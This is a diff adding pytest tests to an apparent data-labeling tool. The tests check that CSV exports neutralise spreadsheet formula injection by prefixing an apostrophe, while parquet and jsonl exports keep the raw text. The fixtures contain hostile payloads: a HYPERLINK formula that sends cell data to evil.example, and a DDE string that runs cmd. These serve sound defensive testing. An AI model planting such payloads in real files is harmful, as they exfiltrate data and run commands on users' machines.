@@ -204,3 +204,68 @@ def test_export_overview_counts_the_events_and_lists_what_each_version_trained_o
     assert [(v["version"], v["alias"], v["n_seed"]) for v in overview["versions"]] == [
         (2, "challenger", 30), (1, "champion", 30)]
     assert overview["versions"][0]["n_labels"] == challenger["n_train"] - 30
+
+
+FORMULAS = {"annotator": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "reason_code": "@SUM(A1:A9)",
+            "comment": "-2+3"}
+MORE_FORMULAS = {"annotator": "+1", "reason_code": "\rcmd", "comment": "\t=1+1"}
+
+
+def _record_formulas(ws, logged):
+    predicted = logged(ws).loc["d-0100", "predicted"]
+    record_label(ws, "d-0100", predicted, seconds_spent=-2.5, **FORMULAS)
+    record_label(ws, "d-0101", None, action="skip", **MORE_FORMULAS)
+    record_label(ws, "d-0102", None, action="skip", annotator="ana", comment="fine - no formula")
+
+
+def _text(path, fmt):
+    return _read(path, fmt).astype({c: str for c in ["annotator", "reason_code", "comment"]})
+
+
+def test_csv_export_prefixes_formula_like_text_with_an_apostrophe_and_keeps_numbers(ws, ingested, logged, tmp_path,
+                                                                                   row_counts):
+    _record_formulas(ws, logged)
+    before = row_counts(ws)
+
+    frame = _text(export_labels(ws, tmp_path / "labels.csv", "csv"), "csv")
+
+    assert row_counts(ws) == before
+
+    for row, written in ((0, FORMULAS), (1, MORE_FORMULAS)):
+        assert frame.loc[row, list(written)].tolist() == ["'" + v for v in written.values()]
+    assert frame.loc[2, ["annotator", "comment"]].tolist() == ["ana", "fine - no formula"]
+    assert frame.loc[0, "seconds_spent"] == -2.5, "a negative number stays a number"
+    assert frame["served_confidence"].dtype == float and frame["event_id"].dtype == np.int64
+
+
+@pytest.mark.parametrize("fmt", ["parquet", "jsonl"])
+def test_parquet_and_jsonl_exports_keep_the_raw_text(ws, ingested, logged, tmp_path, fmt):
+    _record_formulas(ws, logged)
+
+    frame = _text(export_labels(ws, tmp_path / f"labels.{fmt}", fmt), fmt)
+
+    for row, written in ((0, FORMULAS), (1, MORE_FORMULAS)):
+        assert frame.loc[row, list(written)].tolist() == list(written.values())
+    assert frame.loc[0, "seconds_spent"] == -2.5
+
+
+@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl"])
+def test_training_set_export_neutralises_formula_like_labels_and_features_in_csv_only(empty_ws, tmp_path, fmt):
+    from feedback.tasks import init_task
+
+    seed = pd.DataFrame({
+        "id": [f"s-{i}" for i in range(8)],
+        "x": [-1.5, -0.5, 0.5, 1.5] * 2,
+        "note": ["=cmd|' /C calc'!A0", "@SUM(1)", "plain", "+1"] * 2,
+        "label": ["-down", "-down", "@up", "@up"] * 2,
+    })
+    seed.to_csv(tmp_path / "seed.csv", index=False)
+    init_task(empty_ws, tmp_path / "seed.csv", "label", audit_share=0.1)
+
+    frame = _read(export_training_set(empty_ws, 1, tmp_path / f"v1.{fmt}", fmt), fmt).set_index("id")
+
+    prefix = "'" if fmt == "csv" else ""
+    assert frame.loc["s-0", ["label", "note"]].tolist() == [prefix + "-down", prefix + "=cmd|' /C calc'!A0"]
+    assert frame.loc["s-2", ["label", "note"]].tolist() == [prefix + "@up", "plain"]
+    assert frame.loc["s-3", "note"] == prefix + "+1"
+    assert frame.loc["s-0", "x"] == -1.5, "a negative number stays a number"
